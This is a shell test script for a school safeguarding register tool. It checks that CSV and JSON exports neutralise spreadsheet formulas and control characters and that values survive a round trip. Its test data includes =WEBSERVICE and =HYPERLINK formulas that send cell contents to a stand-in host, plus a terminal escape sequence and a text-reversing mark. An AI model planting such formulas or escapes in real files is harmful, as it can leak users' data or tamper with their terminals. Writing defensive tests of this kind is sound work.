# Hostile text on the way out (issue 9, point 5): no CSV smreg writes holds
# a cell a spreadsheet would run, export -> import still gives every value
# back, and neither CSV nor JSON carries a control character, even one
# another program put into the database.
. "$(dirname "$0")/../lib.sh"

# What a member of staff files as a contact report's summary (the issue's
# example) and platform; a pupil's name a spreadsheet would take as -5.
WEBSERVICE='=WEBSERVICE("http://x.example/"&J3)'
HYPERLINK='=HYPERLINK("http://x.example/?"&A1,"Open")'

# csv_column FILE COLUMN: COLUMN of every row of the CSV FILE, as SQLite's
# own CSV reader (not smreg's) reads it, one row a line.
csv_column() {
	sqlite3 -batch :memory: ".import --csv $1 t" "SELECT \"$2\" FROM t"
}

# formula_cells FILE: every cell of the CSV FILE that starts as a formula
# (= + - @ tab or CR), read by SQLite's CSV reader, one a line.
formula_cells() {
	sqlite3 -batch :memory: ".import --csv $1 t" ".mode ascii" "SELECT * FROM t" |
		LC_ALL=C awk -v RS=$'\x1e' -v FS=$'\x1f' \
			'{ for (i = 1; i <= NF; i++) if ($i ~ /^[-=+@\t\r]/) print $i }'
}

# no_formulas WHAT: the output just captured (as a file) has no such cell.
no_formulas() {
	cp "$TEST_ROOT/out" "$TEST_ROOT/check.csv"
	local found
	found=$(formula_cells "$TEST_ROOT/check.csv")
	[ -z "$found" ] || fail "$1 has cells a spreadsheet would run:" "$found"
}

# A register where staff member "staff" has filed a report with formulas.
staff_files_formulas() {
	fresh_register
	add person name="Sam Staff" >/dev/null
	add person name="Dee Dsl" >/dev/null
	add_user staff staff "Sam Staff"
	add_user dsl dsl "Dee Dsl"
	CONTACT=$(add_as staff contact "platform=$HYPERLINK" category=pupil_contact \
		"summary=$WEBSERVICE" pupil_name=-5 reported_on=2026-10-01)
	# Stored as typed: the mark is for the spreadsheet, not the register.
	expect_sql "SELECT summary, platform, pupil_name FROM contact" "$WEBSERVICE|$HYPERLINK|-5"
}

test_a_formula_filed_by_staff_is_marked_in_the_dsls_export() {
	staff_files_formulas
	run_as dsl export contact
	expect_status 0
	expect_out "\"'=WEBSERVICE(\"\"http://x.example/\"\"&J3)\""
	expect_no_out ",\"=WEBSERVICE"
	no_formulas "export contact"
	# What a spreadsheet reads from it: text, with the mark in front.
	cp "$TEST_ROOT/out" "$TEST_ROOT/export.csv"
	[ "$(csv_column "$TEST_ROOT/export.csv" summary)" = "'$WEBSERVICE" ] ||
		fail "the summary does not read as marked text" "$OUT"
	[ "$(csv_column "$TEST_ROOT/export.csv" platform)" = "'$HYPERLINK" ] ||
		fail "the platform does not read as marked text" "$OUT"
	[ "$(csv_column "$TEST_ROOT/export.csv" pupil_name)" = "'-5" ] ||
		fail "the pupil's name does not read as marked text" "$OUT"
}

test_a_formula_is_marked_in_every_csv_the_dsl_can_ask_for() {
	staff_files_formulas
	run_as dsl list contact --format csv
	expect_status 0
	expect_out "\"'=HYPERLINK("
	no_formulas "list contact --format csv"
	run_as dsl show contact "$CONTACT" --format csv
	expect_status 0
	expect_out "\"'=WEBSERVICE("
	no_formulas "show contact --format csv"
	# The report is open and old: the pupil's name is the warning's subject.
	run_as dsl due --format csv
	expect_out "CONTACT_OPEN"
	expect_out ",'-5,"
	no_formulas "due --format csv"
	run_as dsl audit --format csv
	expect_status 0
	no_formulas "audit --format csv"
	# JSON needs no mark: a JSON string is never a formula.
	run_as dsl export contact --format json
	expect_out '"summary": "=WEBSERVICE(\"http://x.example/\"&J3)"'
}

test_export_then_import_gives_every_value_back() {
	fresh_register
	local value
	local values=("=1+2" "-5" "+44 20 7946 0000" "@x" "'=x" "'plain" "''@x" "'" "x=y" "$WEBSERVICE")
	for value in "${values[@]}"; do
		add person "name=N$value" "job_title=$value" "notes=$value" >/dev/null
	done
	# A note's tab and a line that starts as a formula stay inside it.
	add person "name=Tabs" $'notes=first\tcolumn\n=SUM(A1:A9)\n-5' >/dev/null
	run_ok export school
	printf '%s\n' "$OUT" >"$TEST_ROOT/school.csv"
	run_ok export person
	printf '%s\n' "$OUT" >"$TEST_ROOT/person.csv"
	expect_out ",N=1+2,'=1+2,"
	expect_out ",N'=x,''=x,"
	expect_out ",N'plain,'plain,"
	local first=$DB
	DB="$TEST_ROOT/copy.db"
	run --db "$DB" init
	expect_status 0
	run --db "$DB" import school "$TEST_ROOT/school.csv"
	expect_status 0
	run --db "$DB" import person "$TEST_ROOT/person.csv"
	expect_status 0
	expect_no_err
	local query="SELECT id, hex(name), hex(job_title), hex(notes) FROM person ORDER BY id"
	[ "$(sqlite3 "$first" "$query")" = "$(sqlite3 "$DB" "$query")" ] ||
		fail "a value changed on the way round" "$(diff <(sqlite3 "$first" "$query") <(sqlite3 "$DB" "$query"))"
	expect_sql "SELECT job_title FROM person WHERE name = 'N''=x'" "'=x"
	expect_sql "SELECT job_title FROM person WHERE name = 'N-5'" "-5"
	# The import takes off the mark a spreadsheet user types too.
	printf 'name,job_title\nTyped,'\''=2+2\n' >"$TEST_ROOT/typed.csv"
	run --db "$DB" import person "$TEST_ROOT/typed.csv"
	expect_status 0
	expect_sql "SELECT job_title FROM person WHERE name = 'Typed'" "=2+2"
}

# no_raw_controls FILE WHAT [ALSO]: FILE holds no C0 control byte but
# newline and tab (nor any in ALSO), no DEL, no C1 control (as UTF-8 or as
# a bare byte), no text-reversing mark, and is UTF-8.
no_raw_controls() {
	if LC_ALL=C grep -qP "[\\x00-\\x08\\x0b-\\x1f\\x7f${3:-}]" "$1"; then
		fail "$2 wrote a control byte:" "$(od -c "$1" | head -20)"
	fi
	if LC_ALL=C grep -qP '\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]' "$1"; then
		fail "$2 wrote a C1 control or a text-reversing mark:" "$(od -c "$1" | head -20)"
	fi
	if LC_ALL=C.UTF-8 grep -qavx '.*' "$1"; then
		fail "$2 wrote text that is not UTF-8:" "$(od -c "$1" | head -20)"
	fi
}

# Every C0 control, DEL, every C1 control (as UTF-8), a bare C1 byte, CR
# LF, a text-reversing mark, as SQL text.
EVERY_CONTROL="'c0:' || char(1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25,26,27,28,29,30,31)
	|| ':del:' || char(127) || ':c1:' || char(128,129,130,131,132,133,134,135,136,137,138,139,140,141,142,143,
	144,145,146,147,148,149,150,151,152,153,154,155,156,157,158,159)
	|| ':bare:' || CAST(x'9b' AS TEXT) || ':crlf:' || char(13, 10) || ':rev:' || char(8238) || ':end'"

# A person written into the register by another program, past smreg's
# checks: controls in the name, the job title and the notes.
controls_from_another_tool() {
	fresh_register
	raw_insert person "INSERT INTO person (id, name, job_title, notes) VALUES
		('33333333-3333-4333-8333-333333333333', 'Ctl' || char(27) || '[2J' || char(155) || 'Name',
		 char(13) || '=1+2' || char(7), $EVERY_CONTROL)"
	expect_sql "SELECT instr(notes, char(155)) > 0 FROM person" "1"
}

test_csv_carries_no_control_byte_from_another_tool() {
	controls_from_another_tool
	local cmd
	for cmd in "export person" "list person --format csv" \
		"show person 33333333-3333-4333-8333-333333333333 --format csv" "due --format csv"; do
		# shellcheck disable=SC2086 # the command's words
		run $cmd
		# due exits 1: the person has no training recorded.
		[ "$STATUS" -le 1 ] || fail "$cmd exited $STATUS" "$ERR"
		cp "$TEST_ROOT/out" "$TEST_ROOT/controls.csv"
		no_raw_controls "$TEST_ROOT/controls.csv" "$cmd"
		expect_out "Ctl^[[2J"$'\xef\xbf\xbd'"Name"
		no_formulas "$cmd"
	done
	run_ok export person
	# Shown as a terminal table shows them; CR LF is the line break it was;
	# a CR that led the job title is a line break, marked.
	expect_out "c0:^A^B^C^D^E^F^G^H"$'\t\n'"^K^L"$'\n'"^N^O"
	expect_out "^Z^[^\\^]^^^_:del:^?:c1:"$'\xef\xbf\xbd\xef\xbf\xbd'
	expect_out ":bare:"$'\xef\xbf\xbd'":crlf:"$'\n'":rev:"$'\xef\xbf\xbd'":end"
	expect_out "\"'"$'\n'"=1+2^G\""
}

test_json_carries_no_control_byte_from_another_tool() {
	controls_from_another_tool
	local cmd
	for cmd in "export person --format json" "list person --format json" \
		"show person 33333333-3333-4333-8333-333333333333 --format json" "due --format json"; do
		# shellcheck disable=SC2086 # the command's words
		run $cmd
		# due exits 1: the person has no training recorded.
		[ "$STATUS" -le 1 ] || fail "$cmd exited $STATUS" "$ERR"
		cp "$TEST_ROOT/out" "$TEST_ROOT/controls.json"
		# JSON writes a tab as \t: no raw tab either.
		no_raw_controls "$TEST_ROOT/controls.json" "$cmd" '\x09'
		expect_sql "SELECT json_valid(readfile('$TEST_ROOT/controls.json'))" "1"
		expect_out '"Ctl\u001b[2J\u009bName"'
	done
	run_ok export person --format json
	expect_out '"c0:\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008\t\n\u000b\u000c\r\u000e'
	expect_out ':del:\u007f:c1:\u0080\u0081'
	expect_out '\u009e\u009f:bare:\ufffd:crlf:\r\n:rev:\u202e:end"'
	expect_out '"\r=1+2\u0007"'
}

# Coming in, an import refuses control characters as add does, naming the
# field; taking a formula mark off lets none through.
test_an_import_refuses_control_characters_after_a_mark_too() {
	fresh_register
	snapshot
	printf 'name,job_title,notes\nAmy,"'\''@x\ry",\nBen,,"'\''\t@x\x1b[2J"\nCid,'\''-\xc2\x9b,\n' >"$TEST_ROOT/in.csv"
	run import person "$TEST_ROOT/in.csv"
	expect_status 3
	expect_err "in.csv:2: job_title: contains a control character"
	expect_err "in.csv:4: notes: contains a control character"
	expect_err "in.csv:5: job_title: contains a control character"
	expect_unchanged
}

run_tests
